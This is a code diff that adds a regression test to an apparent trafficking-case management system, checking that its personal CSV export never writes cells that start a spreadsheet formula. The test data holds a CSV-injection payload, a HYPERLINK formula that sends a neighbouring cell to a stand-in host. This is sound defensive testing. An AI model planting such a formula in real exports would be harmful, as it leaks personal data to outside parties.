@@ -258,3 +258,32 @@ def test_the_exploitation_total_is_not_more_people_than_there_are():
     types = dashboard.published("exploitation", period=Period(), sources=["historical"])
     assert people.total[-1] == 20
     assert types.total == () or types.total[-1] == 20  # today: 40 "people"
+
+
+# --- HTCDS personal CSV: typed text is never a spreadsheet formula -------------
+
+
+def test_a_personal_csv_cell_never_starts_a_formula():
+    """The personal CSV export (opened in a spreadsheet by the national contact
+    point) writes names, aliases, places and addresses exactly as typed: a name
+    or alias of '=HYPERLINK("https://example.invalid/?"&B2,"x")' becomes a live
+    formula (CSV injection, OWASP) that can send the neighbouring cells away."""
+    import csv
+
+    from trm.accounts.models import Role
+    from trm.accounts.tests.factories import UserFactory
+    from trm.cases.tests.factories import open_case
+    from trm.statistics import htcds_io
+
+    ncp = UserFactory(roles=[Role.NATIONAL_CONTACT_POINT])
+    open_case(
+        ncp,
+        given_names='=HYPERLINK("https://example.invalid/?"&B2,"x")',
+        family_names="+Fictiva",
+    )
+    export = htcds_io.export_htcds(
+        actor=ncp, fmt="csv", include_personal=True, purpose="Review"
+    )
+    for row in csv.reader(io.StringIO(export.content)):
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@")), cell
